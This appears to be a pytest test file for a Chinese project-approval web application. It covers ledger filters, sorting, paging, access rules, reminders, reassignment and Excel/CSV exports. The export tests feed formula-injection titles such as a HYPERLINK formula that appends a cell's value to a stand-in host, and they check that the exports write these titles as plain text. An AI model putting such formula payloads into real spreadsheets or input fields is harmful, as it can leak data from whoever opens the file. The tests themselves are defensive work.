"""The project ledger (项目台账): scope, filters, sort, pages, and no workflow state loaded."""

from __future__ import annotations

import csv
import io
import re

import openpyxl
import pytest

from engine import Engine
from engine.persistence.queries import ledger as ledger_queries
from engine.service.ledger import LedgerPage
from engine.service.ledger import LedgerQuery
from engine.service.ledger import LedgerRow
from engine.service.runs import RunStore
from party.demo.driver import ProjectDriver
from tests.webhelpers import login
from tests.webhelpers import post
from tests.webhelpers import text

COUNTY = "county1_applicant"
DEPARTMENT = "dept1_applicant"


@pytest.fixture
def projects(party_engine: Engine) -> tuple[Engine, dict[str, int]]:
    """Three applications: one at its county leader's, one past the city's review, one withdrawn."""
    party = ProjectDriver(party_engine)
    county = party.apply(COUNTY, "雨城区台账项目")
    department = party.apply(DEPARTMENT, "市级部门台账项目")
    party.pass_review(DEPARTMENT, department)
    withdrawn = party.apply("county2_applicant", "撤回的台账项目")
    party_engine.withdraw("county2_applicant", withdrawn)
    party.at("2008-04-10")  # the county's leader approval is overdue by now
    return party_engine, {"county": county, "department": department, "withdrawn": withdrawn}


def titles(page: LedgerPage) -> list[str]:
    return [row.title for row in page.rows]


def test_scope_holders_and_counts(projects):
    engine, ids = projects
    page = engine.ledger("supervisor", LedgerQuery())
    assert sorted(titles(page)) == ["市级部门台账项目", "雨城区台账项目"]
    county = next(row for row in page.rows if row.instance_id == ids["county"])
    assert [(step.name, step.holder) for step in county.steps] == [("分管领导审批", "county1_leader")]
    assert county.days_overdue > 0 and county.stage == "审核中"
    assert page.counts == {"open": 2, "overdue": page.counts["overdue"], "error": 0, "closed": 1}
    assert page.counts["overdue"] >= 1

    assert titles(engine.ledger("county1_org", LedgerQuery(state="all"))) == ["雨城区台账项目"]
    assert titles(engine.ledger("supervisor", LedgerQuery(state="closed"))) == ["撤回的台账项目"]
    # anyone else: their own projects (我的项目), not the city's
    assert titles(engine.ledger(COUNTY, LedgerQuery(state="all"))) == ["雨城区台账项目"]
    assert titles(engine.ledger("panel1", LedgerQuery(state="all"))) == []


def test_filters_and_sort(projects):
    engine, _ids = projects
    assert titles(engine.ledger("city_org", LedgerQuery(step="分管领导审批"))) == ["雨城区台账项目"]
    assert titles(engine.ledger("city_org", LedgerQuery(search="部门"))) == ["市级部门台账项目"]
    assert titles(engine.ledger("city_org", LedgerQuery(unit="511802"))) == ["雨城区台账项目"]
    assert titles(engine.ledger("city_org", LedgerQuery(kind="demonstration_project"))) == []
    assert len(titles(engine.ledger("city_org", LedgerQuery(catalogue="P03")))) == 2
    assert titles(engine.ledger("city_org", LedgerQuery(catalogue="P01"))) == []
    by_step = engine.ledger("city_org", LedgerQuery(sort="step"))
    assert [row.steps[0].name for row in by_step.rows] == sorted(row.steps[0].name for row in by_step.rows)
    by_lateness = titles(engine.ledger("city_org", LedgerQuery(sort="late")))
    assert by_lateness == titles(engine.ledger("city_org", LedgerQuery(sort="due", descending=True)))
    assert titles(engine.ledger("city_org", LedgerQuery(search="100%_"))) == []  # LIKE characters are literal
    late = engine.ledger("city_org", LedgerQuery(overdue=True))
    assert late.rows and all(row.days_overdue > 0 for row in late.rows) and late.total == late.counts["overdue"]
    ascending = titles(engine.ledger("city_org", LedgerQuery(state="all", sort="title")))
    descending = titles(engine.ledger("city_org", LedgerQuery(state="all", sort="title", descending=True)))
    assert len(ascending) == 3 and descending == ascending[::-1]


def test_pages(projects, monkeypatch):
    engine, _ids = projects
    monkeypatch.setattr(ledger_queries, "PAGE_SIZE", 2)
    first = engine.ledger("supervisor", LedgerQuery(state="all", sort="title"))
    second = engine.ledger("supervisor", LedgerQuery(state="all", sort="title", page=2))
    assert (first.total, first.pages, len(first.rows), len(second.rows)) == (3, 2, 2, 1)
    assert not set(titles(first)) & set(titles(second))
    assert engine.ledger("supervisor", LedgerQuery(state="all", page=99)).page == 2  # past the end: the last page


def test_the_ledger_never_loads_a_workflow_state(projects, monkeypatch):
    engine, _ids = projects

    def refuse(*_args, **_kwargs):
        raise AssertionError("the ledger loaded a workflow state")

    monkeypatch.setattr(RunStore, "load", refuse)
    assert engine.ledger("supervisor", LedgerQuery(state="all")).total == 3


def test_ledger_page_reads_names_and_keeps_filters(projects, app, client):
    _engine, _ids = projects
    login(client, "supervisor")
    response = client.get("/projects/?step=分管领导审批&sort=title&dir=desc")
    page = text(response)
    assert response.status_code == 200
    assert "雨城区台账项目" in page and "市级部门台账项目" not in page
    assert "county1_leader" not in page and "分管领导" in page and "雨城区" in page
    assert "2008年" in page
    body = response.get_data(as_text=True)
    assert "step=%E5%88%86" in body  # the sort links keep the step filter
    # the step opens its task page, where the supervisor urges its holder (催办)
    step_link = re.search(r'href="(/tasks/\d+)">分管领导审批<', body).group(1)
    assert 'value="remind"' in text(client.get(step_link))
    response = post(client, step_link, {"action": "remind", "message": "请尽快审批"}, page=step_link)
    assert response.status_code == 302
    assert "请尽快审批" in [n.message for n in _engine.notifications("county1_leader")]
    assert client.get("/projects/?page=0").status_code == 400
    assert client.get("/projects/?sort=nonsense&state=nonsense&year=abc").status_code == 200

    login(client, COUNTY)
    own = client.get("/projects/")
    assert own.status_code == 200 and "我的项目" in text(own) and "项目台账" not in text(own)
    assert "雨城区台账项目" in text(own) and "市级部门台账项目" not in text(own)


def test_excel_ledger_matches_the_database(projects, app, client):
    engine, _ids = projects
    login(client, "supervisor")
    response = client.get("/projects/ledger.xlsx?state=all&sort=title")
    assert response.status_code == 200 and "attachment" in response.headers["Content-Disposition"]
    sheet = openpyxl.load_workbook(io.BytesIO(response.data)).active
    assert "项目台账" in sheet["A1"].value and "A1:M1" in {str(r) for r in sheet.merged_cells.ranges}
    assert sheet.freeze_panes == "B5" and sheet.page_setup.orientation == "landscape"
    assert [cell.value for cell in sheet[4]][:3] == ["项目", "单位", "工作板块"]
    expected = engine.ledger("supervisor", LedgerQuery(state="all", sort="title"), everything=True).rows
    written = [[cell.value for cell in row] for row in sheet.iter_rows(min_row=5)]
    assert [row[0] for row in written] == [row.title for row in expected]
    county = written[[row.instance_id for row in expected].index(ids_of(expected, "雨城区台账项目"))]
    assert county[1] == "雨城区" and county[6] == "分管领导审批" and "county1_leader" not in county[7]
    assert county[10] and county[11] == "已逾期"
    red = sheet.cell(row=5 + [r.title for r in expected].index("雨城区台账项目"), column=12).fill.fgColor.rgb
    assert red.endswith("FFC7CE")


def ids_of(rows: list[LedgerRow], title: str) -> int:
    return next(row.instance_id for row in rows if row.title == title)


def test_csv_ledger_keeps_formula_like_titles_as_text(party_engine, app, client):
    party = ProjectDriver(party_engine)
    party.apply(COUNTY, '=HYPERLINK("http://example.com")')
    login(client, "supervisor")
    response = client.get("/projects/ledger.csv")
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert rows[0][0] == "项目"
    assert rows[1][0] == "'=HYPERLINK(\"http://example.com\")"
    login(client, COUNTY)  # their own projects only
    assert "市级部门台账项目" not in client.get("/projects/ledger.csv").data.decode("utf-8-sig")


# Every export that writes a workbook: (path, who reads it).
WORKBOOK_EXPORTS = [("/projects/ledger.xlsx?state=all", "supervisor"),
                    ("/projects/ledger.xlsx?state=all", "county1_org")]
FORMULA_TITLES = ['=HYPERLINK("http://x.invalid/?"&B3,"详情")', "+1+cmd", "-2+3", "@SUM(A1)", "\t=1+1"]


@pytest.mark.parametrize(("path", "reader"), WORKBOOK_EXPORTS)
def test_every_workbook_writes_user_text_as_text(party_engine, app, client, path, reader):
    party = ProjectDriver(party_engine)
    for applicant, title in zip((COUNTY, "county2_applicant", "county3_applicant", "county4_applicant",
                                 DEPARTMENT), FORMULA_TITLES, strict=True):
        party.apply(applicant, title)
    party.at("2008-04-10")  # overdue by now: the days overdue are a number
    login(client, reader)
    response = client.get(path)
    assert response.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(response.data))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    written = {cell.value: cell for cell in cells if isinstance(cell.value, str)}
    assert FORMULA_TITLES[0] in written  # the county's own project
    for title in set(FORMULA_TITLES) & set(written):
        assert written[title].data_type == "s" and written[title].quotePrefix, title
    assert any(isinstance(cell.value, int) for cell in cells)  # days overdue stay numbers


def test_only_the_spreadsheet_helper_writes_workbook_cells():
    from pathlib import Path

    for module in Path("web").glob("*.py"):
        source = module.read_text(encoding="utf-8")
        if "openpyxl" in source and module.name != "spreadsheet.py":
            assert ".append(" not in source.replace("append_row(", "") and "value=" not in source, module


def test_bottlenecks_per_step_and_unit(projects):
    engine, _ids = projects
    found = engine.bottlenecks("supervisor", LedgerQuery())
    steps = {s.key: s for s in found.by_step}
    leader = steps["分管领导审批"]
    assert (leader.projects, leader.overdue) == (1, 1)
    # waiting since 3 March, seen on 10 April
    assert leader.median_days == leader.longest_days and 37 <= leader.longest_days <= 39
    assert {s.key for s in found.by_unit} == {"511802", "511800D01"}
    assert [s.key for s in engine.bottlenecks("county1_org", LedgerQuery()).by_unit] == ["511802"]
    assert engine.bottlenecks("supervisor", LedgerQuery(unit="511802")).by_step == [leader]


def test_bottleneck_page_links_to_the_filtered_ledger(projects, app, client):
    login(client, "supervisor")
    response = client.get("/projects/bottlenecks")
    body = response.get_data(as_text=True)
    assert response.status_code == 200 and "卡点分析" in body and "vendor/echarts/echarts.min.js" in body
    assert "/projects/?step=%E5%88%86%E7%AE%A1%E9%A2%86%E5%AF%BC%E5%AE%A1%E6%89%B9" in body  # 分管领导审批
    assert "/projects/?unit=511802" in body and "雨城区" in body


def test_bottlenecks_with_the_step_and_overdue_filters(projects):
    engine, _ids = projects
    found = engine.bottlenecks("supervisor", LedgerQuery(overdue=True, step="分管领导审批"))
    assert [(s.key, s.projects) for s in found.by_step] == [("分管领导审批", 1)]


def test_project_page_shows_where_it_waits_and_the_timeline(projects, app, client):
    _engine, ids = projects
    login(client, "county1_org")
    response = client.get(f"/projects/{ids['county']}")
    page = response.get_data(as_text=True)
    assert response.status_code == 200 and "雨城区台账项目" in page and "卡在哪里" in page
    assert "分管领导审批" in page and "county1_leader" not in page and "2008年3月3日" in page
    assert 'id="repair"' not in page  # a county may read, not repair
    assert client.get(f"/projects/{ids['department']}").status_code == 403  # another unit's project
    login(client, COUNTY)  # their own project, but not another unit's
    assert client.get(f"/projects/{ids['county']}").status_code == 200
    assert client.get(f"/projects/{ids['department']}").status_code == 403


def test_project_timeline_leaves_out_who_scored(party_engine, app, client):
    party = ProjectDriver(party_engine)
    instance_id = party.apply(COUNTY, "保密评分项目")
    party.pass_review(COUNTY, instance_id)
    party.at("2008-04-10")
    party.assign_panel(instance_id)
    party.do("panel1", "panel_score", instance_id, {"recuse": False, "score": 71, "opinion": "专家一的意见"})
    login(client, "county1_org")
    page = client.get(f"/projects/{instance_id}").get_data(as_text=True)
    assert "专家一的意见" not in page and "专家论证评分" in page  # the step waits; who scored is not shown
    assert page.count("专家论证评分") == 2  # the two open scorings, not panel1's completed one
    login(client, "supervisor")
    assert "专家一的意见" in client.get(f"/projects/{instance_id}").get_data(as_text=True)


def test_repairs_need_a_reason_and_are_on_the_timeline(projects, app, client):
    engine, ids = projects
    login(client, "city_org")
    url = f"/projects/{ids['county']}"
    post(client, url + "/repair", {"action": "suspend", "reason": "  "}, page=url)
    assert engine.instance("admin", ids["county"]).status == "waiting"  # refused: no reason
    assert "请填写操作原因" in client.get(url).get_data(as_text=True)
    post(client, url + "/repair", {"action": "suspend", "reason": "核查申报材料"}, page=url)
    assert engine.instance("admin", ids["county"]).status == "suspended"
    page = client.get(url).get_data(as_text=True)
    assert "已暂停" in page and "核查申报材料" in page and 'value="resume"' in page
    assert post(client, url + "/repair", {"action": "explode", "reason": "x"}, page=url).status_code == 400
    login(client, "supervisor")  # supervisors read, they do not repair
    post(client, url + "/repair", {"action": "resume", "reason": "恢复"}, page=url)
    assert engine.instance("admin", ids["county"]).status == "suspended"


def test_supervision_lists_urged_steps_and_units_that_have_not_applied(party_engine, app, client):
    party = ProjectDriver(party_engine)
    instance_id = party.apply(COUNTY, "催办未办结项目")
    leader_task = party.task("county1_leader", "leader_approval", instance_id)
    party.engine.send_reminder("supervisor", leader_task.id, "请尽快审批")
    party.at("2008-03-07")  # four working days later: not yet an escalation
    found = party_engine.supervision("supervisor")
    assert found.escalations == [] and found.year == 2008 and not found.window_closed
    party.at("2008-03-11")  # six working days later
    found = party_engine.supervision("supervisor")
    assert [(e.title, e.step, e.holder, e.message) for e in found.escalations] == [
        ("催办未办结项目", "分管领导审批", "county1_leader", "请尽快审批")]
    assert party_engine.supervision("county2_org").escalations == []  # another county's project

    party.at("2008-04-10")  # the application window has closed
    found = party_engine.supervision("supervisor")
    names = [name for _code, name in found.not_applied["key_project"]]
    assert found.window_closed and "雨城区" not in names and "名山县" in names
    assert [name for _code, name in party_engine.supervision("county2_org").not_applied["key_project"]] == ["名山县"]

    login(client, "supervisor")
    page = client.get("/projects/supervision").get_data(as_text=True)
    assert "催办未办结项目" in page and "名山县" in page and "county1_leader" not in page
    login(client, COUNTY)
    assert client.get("/projects/supervision").status_code == 403


def test_reassign_a_step_needs_the_role_and_a_reason_and_is_audited(projects, app, client):
    engine, ids = projects
    unit = engine.user("county1_leader").unit_code
    engine.add_user("county1_leader2", unit, ["unit_leader"], password="另一位领导的密码123",
                    display_name="雨城区 分管领导 钱")
    task_id = next(step.task_id for step in engine.project("city_org", ids["county"]).steps)
    url = f"/projects/{ids['county']}"
    login(client, "city_org")
    page = client.get(url).get_data(as_text=True)
    assert 'name="to"' in page and "改派" in page
    post(client, f"{url}/tasks/{task_id}/reassign", {"to": "county1_applicant", "reason": "请假"}, page=url)
    assert "不具备该环节的办理角色" in client.get(url).get_data(as_text=True)  # not a unit leader
    post(client, f"{url}/tasks/{task_id}/reassign", {"to": "county1_leader2", "reason": " "}, page=url)
    assert engine.project("city_org", ids["county"]).steps[0].holder == "county1_leader"  # no reason: refused
    reason = "分管领导出差，改由其他领导审批"
    post(client, f"{url}/tasks/{task_id}/reassign", {"to": "county1_leader2", "reason": reason}, page=url)
    assert engine.project("city_org", ids["county"]).steps[0].holder == "county1_leader2"
    page = client.get(url).get_data(as_text=True)
    assert "改派" in page and reason in page
    assert [n.kind for n in engine.notifications("county1_leader2")] == ["reassigned"]
    assert engine.my_task_in("county1_leader2", ids["county"]) == task_id
    assert engine.my_task_in("county1_leader", ids["county"]) is None
    login(client, "supervisor")  # supervisors read, they do not reassign
    assert 'name="to"' not in client.get(url).get_data(as_text=True)
    post(client, f"{url}/tasks/{task_id}/reassign", {"to": "county1_leader", "reason": "x"}, page=url)
    assert engine.project("city_org", ids["county"]).steps[0].holder == "county1_leader2"
